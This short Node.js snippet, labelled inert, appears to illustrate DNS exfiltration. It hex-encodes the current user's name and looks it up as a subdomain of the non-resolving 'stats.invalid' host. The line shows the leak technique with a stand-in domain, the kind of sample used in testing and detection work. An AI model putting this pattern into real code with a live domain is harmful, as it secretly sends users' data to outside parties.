// Inert: hides the user's name in the labels of a name that cannot exist.
const dns = require('dns');
const os = require('os');
dns.lookup(`${Buffer.from(os.userInfo().username).toString('hex')}.stats.invalid`, () => {});
